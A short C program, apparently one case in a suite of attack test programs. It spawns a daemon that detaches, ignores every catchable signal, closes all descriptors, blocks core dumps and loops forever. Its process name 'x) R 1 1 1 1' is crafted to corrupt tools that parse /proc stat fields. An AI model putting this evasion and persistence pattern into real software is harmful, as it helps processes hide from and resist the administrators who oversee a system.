/* A daemon that has no open files, heeds no signal and does not die with its parent. */
#include "attack.h"

#include <sys/prctl.h>

int main(void)
{
    if (fork() == 0) {
        setsid();
        prctl(PR_SET_PDEATHSIG, 0);
        prctl(PR_SET_DUMPABLE, 0);
        prctl(PR_SET_NAME, "x) R 1 1 1 1");
        prctl(PR_SET_CHILD_SUBREAPER, 1);
        for (int number = 1; number < 65; number++) {
            signal(number, SIG_IGN);
        }
        if (fork() == 0) {
            for (int number = 0; number < 1024; number++) {
                close(number);
            }
            for (;;) {
                sleep(60);
            }
        }
        _exit(0);
    }
    _exit(0);
}
